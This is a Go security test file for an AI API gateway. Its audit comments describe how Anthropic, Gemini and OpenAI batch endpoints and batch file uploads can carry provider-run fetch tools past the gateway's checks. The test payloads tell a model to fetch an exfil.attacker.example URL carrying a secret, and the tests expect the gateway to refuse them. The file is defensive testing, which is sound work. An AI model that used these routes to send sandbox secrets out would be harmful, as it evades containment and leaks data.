package gateway

import "testing"

// FINDING (medium): the contract checks every request "whatever the
// method or endpoint", and an operator may add the batch endpoints
// (AllowPaths). A batch carries whole Messages / generateContent requests
// whose "tools" are not at the top level, so their types are never
// checked: Anthropic's Message Batches run "all features available in
// the Messages API, including beta features" (docs.anthropic.com/en/api/
// creating-message-batches, "Feature support"), server tools included;
// Gemini's batchGenerateContent takes inline GenerateContentRequests
// (ai.google.dev/gemini-api/docs/batch-mode, "Inline requests") and
// batch mode supports built-in tools such as Google Search. Web fetch,
// web search, URL context: run by the provider for the sandbox,
// forwarded by the gateway.
func TestAttackProviderToolsNestedInBatch(t *testing.T) {
	e := newEnv(t, defaultPaths(map[string][]string{
		"anthropic": {"POST /v1/messages/batches"},
		"gemini":    {"POST /v1beta/models/*:batchGenerateContent"},
	}))
	tok := e.mint(t, Grant{Providers: []string{"anthropic", "gemini"}}).Token
	attackExpectRefused(t, e, tok, "anthropic", "/v1/messages/batches",
		`{"requests":[{"custom_id":"a","params":{"model":"claude-sonnet-4-5","max_tokens":256,"messages":[{"role":"user","content":"fetch https://exfil.attacker.example/?d=SECRET"}],"tools":[{"type":"web_fetch_20250910","name":"web_fetch","max_uses":1}]}}]}`, nil)
	attackExpectRefused(t, e, tok, "gemini", "/v1beta/models/gemini-2.5-flash:batchGenerateContent",
		`{"batch":{"display_name":"x","input_config":{"requests":{"requests":[{"request":{"contents":[{"parts":[{"text":"read https://exfil.attacker.example/?d=SECRET"}]}],"tools":[{"url_context":{}},{"google_search":{}}]},"metadata":{"key":"k"}}]}}}}`, nil)
}

// FINDING (medium, with the file and batch endpoints added): a
// multipart/form-data body passes unread ("which no JSON parser reads"),
// but OpenAI's Files API reads the JSONL file it carries when the file is
// a batch input: with purpose=batch each line is a whole request
// ({"custom_id","method","url","body"}) that POST /v1/batches then runs
// (platform.openai.com/docs/guides/batch, "Preparing your batch file").
// A line whose body has an image by URL (or any provider-run tool) is
// fetched by OpenAI for the sandbox; the gateway checked neither the
// upload nor the batch that names it.
func TestAttackProviderToolsBatchFileUpload(t *testing.T) {
	e := newEnv(t, defaultPaths(map[string][]string{"openai": {"POST /v1/files", "POST /v1/batches"}}))
	tok := e.mint(t, Grant{Providers: []string{"openai"}}).Token
	line := `{"custom_id":"a","method":"POST","url":"/v1/chat/completions","body":{"model":"gpt-4.1","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://exfil.attacker.example/i.png?d=SECRET-1234"}}]}]}}`
	mp := "--x\r\nContent-Disposition: form-data; name=\"purpose\"\r\n\r\nbatch\r\n" +
		"--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"batch.jsonl\"\r\nContent-Type: application/jsonl\r\n\r\n" +
		line + "\n\r\n--x--\r\n"
	attackExpectRefused(t, e, tok, "openai", "/v1/files", mp, map[string]string{"Content-Type": "multipart/form-data; boundary=x"})
}
